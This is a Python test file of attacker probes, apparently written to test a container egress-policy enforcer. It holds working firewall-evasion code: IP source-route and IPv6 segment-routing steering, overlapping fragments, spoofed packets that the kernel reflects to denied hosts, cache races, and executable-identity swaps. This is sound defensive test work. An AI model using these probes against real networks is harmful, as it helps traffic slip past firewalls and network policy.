#!/usr/bin/env python3
"""Attacker probes of the bypass suite, run inside a lab container.

Every payload carries the marker token the test passes (MK{...}); the test
judges what arrives at the peer, not what this process is told. What this
prints is diagnostics (plus, for the few probes whose requirement is about
the sender, e.g. "the UDP connect() succeeds", a line the test reads):
`key=value` lines, errors as `name=error:ERRNO`.

Protocol with the test for multi-step probes: a line "WAIT" means "do your
part, then write one line to my stdin".
"""

import ctypes
import errno
import os
import shutil
import socket
import struct
import subprocess
import sys
import time

# The Internet checksum, shared with the probes of the other test tiers.
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from probe import checksum as csum, set_comm  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)

IPV6_RTHDR = 57
IP_OPTIONS = 4
TCP_FASTOPEN_NO_COOKIE = 34
MSG_FASTOPEN = 0x20000000


def say(**kv):
    for k, v in kv.items():
        print(f"{k}={v}", flush=True)


def err(e):
    return "error:" + errno.errorcode.get(e.errno, str(e))


def attempt(name, fn):
    """Runs one send step; a refusal is information, not a failure."""
    try:
        r = fn()
        say(**{name: "ok" if r is None else r})
        return True
    except OSError as e:
        say(**{name: err(e)})
        return False


def send_until_refused(s, go, marker, seconds=20):
    """Once the file `go` exists, a marked chunk every 10 ms on the
    connected socket `s`, until the kernel reports an error (said as
    stream=error:...) or `seconds` have passed (stream=no-error)."""
    while not os.path.exists(go):
        time.sleep(0.01)
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        try:
            s.send(payload(marker, 200))
        except socket.timeout:
            pass
        except OSError as e:
            say(stream=err(e))
            return
        time.sleep(0.01)
    say(stream="no-error")


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def wait_go():
    print("WAIT", flush=True)
    sys.stdin.readline()


def payload(marker, size=64):
    body = (marker + " ").encode()
    return (body * (size // len(body) + 1))[:max(size, len(body))]


# --- plain sends, used as controls and by several probes ----------------------

def udp(host, port, marker):
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        attempt("sendto", lambda: s.sendto(payload(marker), (host, int(port))) and None)


def tcp(host, port, marker):
    with socket.socket(family_of(host), socket.SOCK_STREAM) as s:
        s.settimeout(3)
        if attempt("connect", lambda: s.connect((host, int(port)))):
            attempt("send", lambda: s.sendall(payload(marker)))
            time.sleep(0.2)


def tcp_from(sport, host, port):
    """A TCP connect from source port `sport`: its SYN carries no marker,
    so the test tells it apart by that port."""
    with socket.socket(family_of(host), socket.SOCK_STREAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("::" if ":" in host else "0.0.0.0", int(sport)))
        s.settimeout(3)
        attempt("connect", lambda: s.connect((host, int(port))))


def icmp4_type(dst, icmp_type, marker):
    """An ICMP message of type `icmp_type` (code 0), marked, from a raw
    ICMP socket (the kernel writes the IP header)."""
    msg = struct.pack("!BBHHH", int(icmp_type), 0, 0, 0x78, 1) + payload(marker, 64)
    msg = msg[:2] + struct.pack("!H", csum(msg)) + msg[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        attempt("sendto", lambda: s.sendto(msg, (dst, 0)) and None)


def icmp6_type(dst, icmp_type, marker):
    """An ICMPv6 message of type `icmp_type` (code 0), marked, from a raw
    ICMPv6 socket (the kernel writes the IP header and the checksum)."""
    msg = struct.pack("!BBHHH", int(icmp_type), 0, 0, 0x78, 1) + payload(marker, 64)
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        attempt("sendto", lambda: s.sendto(msg, (dst, 0)) and None)


def mapped_udp(v4host, port, marker):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        attempt("sendto", lambda: s.sendto(payload(marker), ("::ffff:" + v4host, int(port))) and None)


# --- 1. revocation -------------------------------------------------------------

def stream(host, port, marker, limit, sock=None, fastopen=False):
    """Streams marked chunks until the kernel reports an error or `limit`
    seconds pass; prints the local port first so the test knows the flow.
    `sock`: a TCP socket to connect instead of a new one. `fastopen`: the
    connection opened by the first chunk's sendto(MSG_FASTOPEN), which no
    connect() call precedes."""
    with sock or socket.socket(family_of(host), socket.SOCK_STREAM) as s:
        s.settimeout(5)
        chunk = payload(marker, 200)
        if fastopen:
            # Blocking, as a plain sendto: a non-blocking one without a
            # cookie only starts the handshake (EINPROGRESS). SO_SNDTIMEO
            # bounds the wait for it.
            s.setblocking(True)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 5, 0))
            opened = attempt("fastopen", lambda: s.sendto(chunk, socket.MSG_FASTOPEN, (host, int(port))) and None)
        else:
            opened = attempt("connect", lambda: s.connect((host, int(port))))
        if not opened:
            return
        say(port=s.getsockname()[1])
        s.settimeout(1)
        start = time.monotonic()
        while time.monotonic() - start < float(limit):
            try:
                s.send(chunk)
            except socket.timeout:
                pass
            except OSError as e:
                say(stream=err(e), after=round(time.monotonic() - start, 2))
                return
            time.sleep(0.01)
        say(stream="no-error")


TCP_MD5SIG = 14


def stream_unstamped(own, own_port, host, port, marker, limit, fastopen=False):
    """`stream` from a socket no storage can be made for: an accepted TCP
    socket (no sock_create hook runs for one) whose option memory is full
    of TCP_MD5SIG keys, disconnected (connect AF_UNSPEC) and connected
    again, elsewhere. Without storage the flow could not be marked
    outbound, and passed as an accepted connection, past revocation. The
    listener is on the container's own address `own` (a loopback one could
    not connect anywhere else), on a port the policy lets it reach."""
    server = socket.create_server((own, int(own_port)), reuse_port=False)
    client = socket.create_connection(server.getsockname())
    s, _ = server.accept()
    keys = 0
    for i in range(4096):
        # struct tcp_md5sig: sockaddr_storage, flags, prefixlen, keylen,
        # ifindex, key[80]; each key for another address.
        addr = struct.pack("=HH4s", socket.AF_INET, 0, bytes([10, (i >> 16) & 255, (i >> 8) & 255, i & 255]))
        md5 = addr.ljust(128, b"\0") + struct.pack("=BBHi", 0, 0, 16, 0) + b"k" * 16 + b"\0" * 64
        try:
            s.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, md5)
        except OSError:
            break
        keys += 1
    unspec = struct.pack("=H14x", socket.AF_UNSPEC)
    disconnected = libc.connect(s.fileno(), unspec, len(unspec)) == 0
    say(md5_keys=keys, disconnected=int(disconnected))
    client.close()
    server.close()
    stream(host, port, marker, limit, sock=s, fastopen=fastopen)


def stream_unstamped_tfo(own, own_port, host, port, marker, limit):
    """`stream_unstamped` whose flow TCP Fast Open opens (sendto with
    MSG_FASTOPEN): the kernel connects from inside sendmsg."""
    stream_unstamped(own, own_port, host, port, marker, limit, fastopen=True)


# --- 2. steering ---------------------------------------------------------------

def srh(denied):
    # Segment routing header (type 4), one segment left: the kernel sends the
    # packet to segments[1] (the denied address) and writes the connected
    # address into segments[0].
    segs = [b"\0" * 16, socket.inet_pton(socket.AF_INET6, denied)]
    return struct.pack("!BBBBBBH", 0, 2 * len(segs), 4, 1, 1, 0, 0) + b"".join(segs)


def srr(kind, denied):
    # LSRR (131) or SSRR (137) listing the denied hop twice. The kernel takes
    # the first entry as the next hop and appends the connected address as
    # the final one. Set before connect(), the packets go to the denied hop;
    # set on a connected TCP socket (whose route is cached) they go to the
    # allowed peer but the option asks it to forward to the denied hop.
    addr = socket.inet_aton(denied)
    return struct.pack("!BBB", kind, 11, 4) + addr + addr + b"\x01"


def steer(sock_type, host, port, denied, marker, how, when):
    """`when`: "before" connect(), "after" it, or "after-sent": after a
    first plain datagram, so the flow's verdict is cached and its packets
    take the established path when the option is set."""
    before = when == "before"
    fam = family_of(host)
    with socket.socket(fam, sock_type) as s:
        s.settimeout(3)
        # A known source port: the test tells this socket's packets (a SYN
        # carries no marker) from an earlier probe's orphaned retransmits.
        s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", 0))
        say(lport=s.getsockname()[1])

        def setopt():
            if fam == socket.AF_INET6:
                s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, srh(denied))
            else:
                s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, srr(int(how), denied))

        if before and not attempt("setsockopt", setopt):
            return
        if not attempt("connect", lambda: s.connect((host, int(port)))):
            return
        if when == "after-sent":
            attempt("plain", lambda: s.send(b"plain datagram") and None)
            time.sleep(0.1)
        if not before and not attempt("setsockopt", setopt):
            return
        for _ in range(3):
            attempt("send", lambda: s.send(payload(marker)) and None)
            time.sleep(0.1)


def inbound_rthdr(port, denied, marker):
    """A server in the container; the peer connects in; the accepted socket
    gets a routing header naming a denied address, then sends."""
    srv = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("::", int(port)))
    srv.listen(1)
    srv.settimeout(10)
    print("ready", flush=True)
    try:
        conn, _ = srv.accept()
    except OSError as e:
        say(accept=err(e))
        return
    with conn:
        if denied != "-":
            attempt("setsockopt", lambda: conn.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, srh(denied)))
        for _ in range(3):
            attempt("send", lambda: conn.send(payload(marker)) and None)
            time.sleep(0.1)


# --- 3. neighbour discovery channel --------------------------------------------

def nd(icmp_type, dest, ifname, marker):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        # type, code, checksum (the kernel fills it), 4 reserved bytes, then
        # what would be the target address and options: here, the marker.
        msg = struct.pack("!BBHI", int(icmp_type), 0, 0, 0) + payload(marker, 48)
        scope = socket.if_nametoindex(ifname)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        attempt("sendto", lambda: s.sendto(msg, (dest, 0, 0, scope)) and None)


def mld_report(marker):
    """An MLDv2 report of one group record (ff05::1:3), the marker after
    it; its checksum left 0 (the kernel fills it for a raw socket)."""
    record = struct.pack("!BBH", 4, 0, 0) + socket.inet_pton(socket.AF_INET6, "ff05::1:3")
    return struct.pack("!BBHHH", 143, 0, 0, 0, 1) + record + payload(marker, 48)


def igmp_report(marker):
    """An IGMPv3 membership report of one group record (239.1.2.3), the
    marker after it, with its checksum."""
    record = struct.pack("!BBH4s", 2, 0, 0, socket.inet_aton("239.1.2.3"))
    report = struct.pack("!BBHHH", 0x22, 0, 0, 0, 1) + record + payload(marker, 64)
    return report[:2] + struct.pack("!H", csum(report)) + report[4:]


def mld(ifname, marker):
    """An MLDv2 report from this process's raw ICMPv6 socket, to ff02::16
    with hop limit 1 as the kernel's own (without its Hop-by-Hop Router
    Alert), the marker after its group record: not the kernel's, so judged
    by the rules."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        msg = mld_report(marker)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 1)
        scope = socket.if_nametoindex(ifname)
        attempt("sendto", lambda: s.sendto(msg, ("ff02::16", 0, 0, scope)) and None)


def igmp(src, marker):
    """An IGMPv3 membership report from this process's raw IGMP socket (to
    224.0.0.22, TTL 1, out of the interface of `src`), the marker after its
    group record: judged by the rules."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 2) as s:
        report = igmp_report(marker)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
        attempt("sendto", lambda: s.sendto(report, ("224.0.0.22", 0)) and None)


# --- 4. UDP replies ------------------------------------------------------------

def udp_revoke(host, port, first_marker, marker):
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        attempt("first", lambda: s.sendto(payload(first_marker), (host, int(port))) and None)
        attempt("reply", lambda: len(s.recvfrom(2048)[0]))
        wait_go()
        attempt("after", lambda: s.sendto(payload(marker), (host, int(port))) and None)


def bound_udp(host, lport, reuse):
    fam = family_of(host)
    s = socket.socket(fam, socket.SOCK_DGRAM)
    if reuse:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", int(lport)))
    s.settimeout(10)
    return s


def first_peer(sock):
    """Says "ready", then waits for the peer's first datagram: its address,
    or None (reported) when none came."""
    print("ready", flush=True)
    try:
        return sock.recvfrom(2048)[1]
    except OSError as e:
        say(recv=err(e))
        return None


def udp_tied(lport, host, marker_a, marker_b):
    """Socket A is spoken to by the peer; socket B (same local port, via
    SO_REUSEPORT, bound after the peer spoke) answers the same peer."""
    a = bound_udp(host, lport, True)
    peer = first_peer(a)
    if peer is None:
        return
    b = bound_udp(host, lport, True)
    attempt("b_send", lambda: b.sendto(payload(marker_b), peer) and None)
    time.sleep(0.1)
    attempt("a_send", lambda: a.sendto(payload(marker_a), peer) and None)


def udp_late_reply(lport, host, wait, marker):
    a = bound_udp(host, lport, False)
    peer = first_peer(a)
    if peer is None:
        return
    time.sleep(float(wait))
    attempt("late_reply", lambda: a.sendto(payload(marker), peer) and None)


# --- 5. Docker's embedded DNS ---------------------------------------------------------

def dns_forwarder(upstream, up_port, listen, port, *sinks):
    """dockerd's embedded DNS, as it works from inside the container's
    namespace: a query to `listen`:`port` is forwarded from a socket of
    this (host) process to `upstream`:`up_port`, and the answer relayed
    back. `sinks` (host port pairs): listeners that only receive."""
    import select
    import threading

    def forward(query, client, srv):
        with socket.socket(family_of(upstream), socket.SOCK_DGRAM) as up:
            up.settimeout(2)
            try:
                up.sendto(query, (upstream, int(up_port)))
                answer = up.recvfrom(4096)[0]
            except OSError:
                return
            srv.sendto(answer, client)

    fwd = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fwd.bind((listen, int(port)))
    socks = [fwd]
    for host, p in zip(sinks[::2], sinks[1::2]):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((host, int(p)))
        socks.append(s)
    print("ready", flush=True)
    while True:
        for s in select.select(socks, [], [])[0]:
            data, client = s.recvfrom(4096)
            if s is fwd:
                threading.Thread(target=forward, args=(data, client, fwd), daemon=True).start()


def udp_ask(host, port, marker):
    """A query that waits for its answer (the container's side of DNS)."""
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        if attempt("sendto", lambda: s.sendto(payload(marker), (host, int(port))) and None):
            attempt("answer", lambda: "got" if marker.encode() in s.recvfrom(4096)[0] else "other")


# --- 7. UDP connect then send ------------------------------------------------------

def connect_then_send(host, port, marker):
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        attempt("connect", lambda: s.connect((host, int(port))))
        attempt("send", lambda: s.send(payload(marker)) and None)


# --- 9. exec identity -------------------------------------------------------------

def exec_as(path, rest):
    # Replaces this (allowed) process; the new image must not keep the old
    # identity just because its exec record could not be taken.
    os.execv(path, [path, os.path.abspath(__file__)] + rest)


def chroot_exec(root, path, rest):
    # CAP_SYS_CHROOT is in Docker's default set: inside `root`, `path` (the
    # allowed executable's path) is whatever the attacker put there.
    os.chroot(root)
    os.chdir("/")
    os.execv(path, [path] + rest)


# --- exe-*: executable identity is the file, not its path, name or comm -------

def show_file(tag, path):
    st = os.stat(path)
    say(**{tag: f"ino:{st.st_ino},ctime:{st.st_ctime_ns}"})


def overwrite_exec(src, path, rest):
    # Root in the container rewrites the allowed executable in place (the
    # same inode: no new file, no rename) with another program's bytes, and
    # execs it by its path.
    show_file("before", path)
    with open(src, "rb") as f:
        data = f.read()
    with open(os.open(path, os.O_WRONLY | os.O_TRUNC), "wb") as f:
        f.write(data)
    show_file("after", path)
    os.execv(path, [path] + rest)


def copy_exec(src, dst, rest):
    # A copy of the allowed executable (its mode and times copied too; its
    # ctime cannot be), exec'd from where it was put.
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    shutil.copy2(src, dst)
    show_file("copy", dst)
    os.execv(dst, [dst] + rest)


def as_comm(name, rest):
    # prctl(PR_SET_NAME): the comm the allowed executable would have.
    set_comm(name)
    with open("/proc/self/comm") as f:
        say(comm=f.read().strip())
    COMMANDS[rest[0]](*rest[1:])


# --- 10. AF_UNSPEC -------------------------------------------------------------------

def sendto_unspec(host, port, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        addr = struct.pack("=H", 0) + struct.pack("!H", int(port)) + socket.inet_aton(host) + b"\0" * 8
        data = payload(marker)
        n = libc.sendto(s.fileno(), data, len(data), 0, addr, len(addr))
        say(sendto="ok" if n >= 0 else "error:" + errno.errorcode.get(ctypes.get_errno(), "?"))


# --- classic vectors ------------------------------------------------------------------

def ip4(src, dst, proto, body, options=b"", frag=0, ident=0x4242, ttl=64):
    ihl = 5 + len(options) // 4
    hdr = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, 20 + len(options) + len(body), ident, frag, ttl,
                      proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + body


def udp_hdr(sport, dport, body):
    return struct.pack("!HHHH", sport, dport, 8 + len(body), 0) + body


def raw4_send(packets, dst):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for p in packets:
            attempt("sendto", lambda: s.sendto(p, (dst, 0)) and None)


def raw4(src, dst, port, marker, options):
    opts = b""
    if options == "nop":
        opts = b"\x01\x01\x01\x00"  # three NOPs and an end-of-list
    elif options == "rr":
        opts = struct.pack("!BBB", 7, 11, 4) + b"\0" * 8 + b"\0"  # record route, 2 slots
    elif options.startswith("lsrr="):
        # Loose source route whose next hop is the named address: a router
        # at `dst` would forward the packet there.
        opts = struct.pack("!BBB", 131, 7, 4) + socket.inet_aton(options[5:]) + b"\x00"
    elif options.startswith("lsrr-ptr5="):
        # The named address twice, the pointer one byte into the first: a
        # router would take the next hop from bytes straddling the two, an
        # address the list does not name.
        addr = socket.inet_aton(options[10:])
        opts = struct.pack("!BBB", 131, 11, 5) + addr + addr + b"\x00"
    raw4_send([ip4(src, dst, 17, udp_hdr(40000, int(port), payload(marker)), opts)], dst)


def raw_via(what, src, dst, hop, marker):
    """An IP_HDRINCL packet whose header names `dst`, sent with sendto() to
    `hop`: the kernel routes it by the sendto address (to that neighbour's
    MAC, or through that gateway) and sends the header as written. `what`:
    "udp" (to port 5353, marked) or "echo" (an echo request, marked)."""
    if what == "echo":
        pkt = echo6_packet(src, dst, marker) if ":" in dst else echo4_packet(src, dst, marker)
    else:
        pkt = udp_packet(src, dst, 5353, marker)[1]
    (raw6_send if ":" in dst else raw4_send)([pkt], hop)


def cache_race(src, allowed, denied, port, marker, seconds):
    """Two threads share one raw socket: one sends to an allowed address,
    the other to a denied one on the same port, as fast as they can. The
    socket's cached verdict is rewritten by both all the time: a verdict
    read half old, half new (the allowed one's state and port, the denied
    one's address) would let the second thread's packet through."""
    import threading
    ok = ip4(src, allowed, 17, udp_hdr(40001, int(port), b"ok"))
    bad = ip4(src, denied, 17, udp_hdr(40002, int(port), payload(marker, 32)))
    deadline = time.monotonic() + float(seconds)
    counts = {}

    def send(name, packet, dst):
        sent = refused = 0
        while time.monotonic() < deadline:
            for _ in range(200):
                try:
                    s.sendto(packet, (dst, 0))
                    sent += 1
                except OSError:
                    refused += 1
        counts[name] = (sent, refused)

    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        threads = [threading.Thread(target=send, args=("allowed", ok, allowed)),
                   threading.Thread(target=send, args=("denied", bad, denied))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    say(allowed_sent=counts["allowed"][0], allowed_refused=counts["allowed"][1],
        denied_sent=counts["denied"][0], denied_refused=counts["denied"][1])


def revoked_claim(src, allowed, port, denied, dport, count):
    """One raw socket alternates a UDP datagram to an allowed peer (its
    verdict, an allow, cached on the socket) and a TCP segment to a denied
    address: each denied segment meets a cache that says "allow", for
    another flow. Counted as revocations, they would pass the event rate
    limit and flood the events. Pinned to one CPU: the rate is per CPU, so
    the test bounds one CPU's events, whatever the host's count."""
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    ok = ip4(src, allowed, 17, udp_hdr(40003, int(port), b"ok"))
    tcp = struct.pack("!HHIIBBHHH", 40004, int(dport), 1, 1, 5 << 4, 0x18, 512, 0, 0) + b"x" * 16
    bad = ip4(src, denied, 6, tcp)
    sent = refused = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for _ in range(int(count)):
            for packet, dst in ((ok, allowed), (bad, denied)):
                try:
                    s.sendto(packet, (dst, 0))
                    sent += 1
                except OSError:
                    refused += 1
    say(sent=sent, refused=refused)
    time.sleep(1)


def frag4_later(src, dst, port, marker):
    # Only a later fragment (offset 64 bytes): no transport header to judge.
    raw4_send([ip4(src, dst, 17, payload(marker, 64), frag=8, ident=0x1111)], dst)


def frag4_after_cached(src, dst, marker):
    # From one socket: an allowed echo reply (type 0 code 0, which the rules
    # see as "port 0"), then a later ICMP fragment with data. The fragment
    # has no port: only a rule for any ICMP could allow it, whatever the
    # socket's cached verdict for port 0 says.
    reply = struct.pack("!BBHHH", 0, 0, 0, 0x77, 1) + b"R" * 16
    reply = reply[:2] + struct.pack("!H", csum(reply)) + reply[4:]
    raw4_send([ip4(src, dst, 1, reply, ident=0x5554),
               ip4(src, dst, 1, payload(marker, 64), frag=8, ident=0x5555)], dst)


def frag4_overlap(src, dst, ok_port, bad_port, marker):
    # First fragment names an allowed port; an overlapping fragment at
    # offset 0 rewrites the UDP header to a denied port and carries data.
    first = udp_hdr(40000, int(ok_port), b"A" * 16)
    second = udp_hdr(40000, int(bad_port), payload(marker, 64))
    raw4_send([ip4(src, dst, 17, first, frag=0x2000, ident=0x2222),
               ip4(src, dst, 17, second, frag=0, ident=0x2222)], dst)


def frag4_tiny(src, dst, ok_port, bad_port, marker):
    # A datagram to a denied port, split so that the first fragment is the
    # UDP header alone and the data travels in a later fragment, which has
    # no port to judge: the data must not arrive on its own.
    body = payload(marker, 64)
    hdr = udp_hdr(40000, int(bad_port), body)
    raw4_send([ip4(src, dst, 17, hdr[:8], frag=0x2000, ident=0x3333),
               ip4(src, dst, 17, hdr[8:], frag=1, ident=0x3333)], dst)


def ip6(src, dst, nh, body):
    return struct.pack("!IHBB16s16s", 6 << 28, len(body), nh, 64,
                       socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)) + body


def opts_hdr(nh):
    # Hop-by-hop or destination options: 8 bytes, a PadN filling 6 bytes.
    return struct.pack("!BB", nh, 0) + b"\x01\x04\0\0\0\0"


def frag6_hdr(nh, offset, more, ident):
    return struct.pack("!BBHI", nh, 0, (offset & 0xFFF8) | int(more), ident)


def raw6_send(packets, dst):
    # IPPROTO_RAW on AF_INET6 implies IPV6_HDRINCL.
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for p in packets:
            attempt("sendto", lambda: s.sendto(p, (dst, 0)) and None)


def v6_ext(src, dst, port, marker):
    # hop-by-hop → destination options → UDP to a denied port.
    body = opts_hdr(60) + opts_hdr(17) + udp_hdr(40000, int(port), payload(marker))
    raw6_send([ip6(src, dst, 0, body)], dst)


def v6_truncated_ext(src, dst, marker):
    """A hop-by-hop header that claims 248 bytes where the packet ends after
    72 (the marker in its options): no transport header can be read."""
    hbh = struct.pack("!BB", 17, 30) + b"\x01\x04\0\0\0\0" + payload(marker, 64)
    raw6_send([ip6(src, dst, 0, hbh)], dst)


def v6_frag_hidden(src, dst, port, marker):
    # First fragment ends after a destination options header in the
    # fragmentable part; the UDP header (and the port) is in the second.
    udp_part = udp_hdr(40000, int(port), payload(marker))
    first = frag6_hdr(60, 0, True, 0x5555) + opts_hdr(17)
    second = frag6_hdr(60, 8, False, 0x5555) + udp_part
    raw6_send([ip6(src, dst, 44, first), ip6(src, dst, 44, second)], dst)


def v6_srh_raw(src, dst, denied, port, marker):
    # Routing header type 4 with one segment left: the allowed peer is the
    # current segment (the IPv6 destination), the denied address the next.
    segs = socket.inet_pton(socket.AF_INET6, denied) + socket.inet_pton(socket.AF_INET6, dst)
    rh = struct.pack("!BBBBBBH", 17, 4, 4, 1, 1, 0, 0) + segs
    raw6_send([ip6(src, dst, 43, rh + udp_hdr(40000, int(port), payload(marker)))], dst)


def tfo(host, port, marker):
    with socket.socket(family_of(host), socket.SOCK_STREAM) as s:
        s.settimeout(3)
        # Per-socket: no cookie needed, so the SYN itself carries the data.
        attempt("nocookie", lambda: s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1))
        attempt("sendto", lambda: s.sendto(payload(marker), MSG_FASTOPEN, (host, int(port))) and None)
        time.sleep(0.3)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


def sendmmsg(host, port, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        n = 2
        addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", int(port))
                                           + socket.inet_aton(host) + b"\0" * 8, 16)
        bufs = [ctypes.create_string_buffer(payload(marker)) for _ in range(n)]
        iovs = [Iovec(ctypes.cast(b, ctypes.c_void_p), len(b) - 1) for b in bufs]
        msgs = (Mmsghdr * n)()
        for i in range(n):
            msgs[i].hdr.name = ctypes.cast(addr, ctypes.c_void_p)
            msgs[i].hdr.namelen = 16
            msgs[i].hdr.iov = ctypes.pointer(iovs[i])
            msgs[i].hdr.iovlen = 1
        r = libc.sendmmsg(s.fileno(), msgs, n, 0)
        say(sendmmsg=r if r >= 0 else "error:" + errno.errorcode.get(ctypes.get_errno(), "?"))


def fdpass(creator, host, port, marker):
    """A socket made by `creator` (a process the policy does not allow),
    handed over SCM_RIGHTS to this (allowed) process, which sends on it."""
    if creator == "-":
        s = socket.socket(family_of(host), socket.SOCK_DGRAM)
    else:
        here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        subprocess.run([creator, os.path.abspath(__file__), "fd-create", str(there.fileno()), family_of(host).name],
                       pass_fds=[there.fileno()], check=True)
        _, fds, _, _ = socket.recv_fds(here, 16, 1)
        s = socket.socket(fileno=fds[0])
    with s:
        attempt("sendto", lambda: s.sendto(payload(marker), (host, int(port))) and None)


def fd_create(fd, family):
    chan = socket.socket(fileno=int(fd))
    s = socket.socket(getattr(socket, family), socket.SOCK_DGRAM)
    socket.send_fds(chan, [b"fd"], [s.fileno()])


def flood(host, port, count, marker):
    sent = refused = 0
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        for _ in range(int(count)):
            try:
                s.sendto(payload(marker, 16), (host, int(port)))
                sent += 1
            except OSError:
                refused += 1
    say(sent=sent, refused=refused)


# --- review probes ----------------------------------------------------------------

def v6_srh_segleft(src, dst, denied, port, marker):
    # SRH whose Last Entry (0) understates its segment list: 3 slots
    # (hdrlen 6), segments_left 2, so a router visits segments[1] next.
    segs = b"".join(socket.inet_pton(socket.AF_INET6, a) for a in (dst, denied, dst))
    rh = struct.pack("!BBBBBBH", 17, 6, 4, 2, 0, 0, 0) + segs
    raw6_send([ip6(src, dst, 43, rh + udp_hdr(40000, int(port), payload(marker)))], dst)


def v6_ext7_srh(src, dst, denied, port, marker):
    # Six destination-options headers, then an SRH naming the denied
    # address, then UDP: the parser stops after six headers.
    segs = socket.inet_pton(socket.AF_INET6, denied) + socket.inet_pton(socket.AF_INET6, dst)
    rh = struct.pack("!BBBBBBH", 17, 4, 4, 1, 1, 0, 0) + segs
    body = opts_hdr(60) * 5 + opts_hdr(43) + rh + udp_hdr(40000, int(port), payload(marker))
    raw6_send([ip6(src, dst, 60, body)], dst)


def icmp6_csum(src, dst, msg):
    ph = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + struct.pack("!I3xB", len(msg), 58)
    return csum(ph + msg)


def echo6_packet(spoofed, dst, marker):
    # An echo request "from" a denied address to a local address: the
    # kernel answers it, with our payload, to the denied address.
    body = payload(marker, 64)
    msg = struct.pack("!BBHHH", 128, 0, 0, 0x77, 1) + body
    c = icmp6_csum(spoofed, dst, msg)
    msg = msg[:2] + struct.pack("!H", c) + msg[4:]
    return ip6(spoofed, dst, 58, msg)


def echo4_packet(spoofed, dst, marker):
    body = payload(marker, 64)
    msg = struct.pack("!BBHHH", 8, 0, 0, 0x77, 1) + body
    msg = msg[:2] + struct.pack("!H", csum(msg)) + msg[4:]
    return ip4(spoofed, dst, 1, msg)


def syn4_packet(spoofed, dst, dport, sport):
    # A SYN "from" a denied address to a closed local port: the kernel
    # answers with a RST to the denied address (seq/ack/ports carry data).
    tcp = struct.pack("!HHIIBBHHH", int(sport), int(dport), 0x4d4b4d4b, 0, 5 << 4, 0x02, 1024, 0, 0)
    ph = socket.inet_aton(spoofed) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    return ip4(spoofed, dst, 6, tcp)


def reflect_echo6(spoofed, dst, marker):
    raw6_send([echo6_packet(spoofed, dst, marker)], dst)


def reflect_echo4(spoofed, dst, marker, cached="no"):
    # "cached": from the same raw socket, a genuine echo request to `dst`
